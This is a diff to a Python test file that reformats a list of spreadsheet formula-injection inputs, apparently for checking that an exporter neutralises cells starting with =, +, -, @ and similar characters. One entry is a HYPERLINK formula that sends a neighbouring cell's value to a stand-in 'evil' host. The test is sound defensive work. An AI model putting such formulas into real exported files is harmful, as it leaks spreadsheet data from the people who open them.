@@ -46,19 +46,8 @@ def test_every_format_has_nothing_where_a_number_is_none(tmp_path):
     assert pyarrow.parquet.read_table(tmp_path / "t.parquet")["value"].to_pylist() == [1.5, None]
 
 
-RUN = [
-    '=HYPERLINK("http://evil/?"&A2)',
-    "+1+1",
-    "-1+1",
-    "@SUM(1)",
-    "\t=1",
-    "\n=1",
-    "'=1",
-    "''@",
-    "--",
-    "\uff1d1",
-    "-1.5a",
-]
+RUN = ['=HYPERLINK("http://evil/?"&A2)', "+1+1", "-1+1", "@SUM(1)", "\t=1", "\n=1"]
+RUN += ["'=1", "''@", "--", "\uff1d1", "-1.5a"]
 NOT_RUN = ["Guard", "a=b", "it's", "'", "'x", "", "-", "-1.5", "+3", "-.5e-3", "-12%", " =1", -1.5, 3, None, True]
 
 
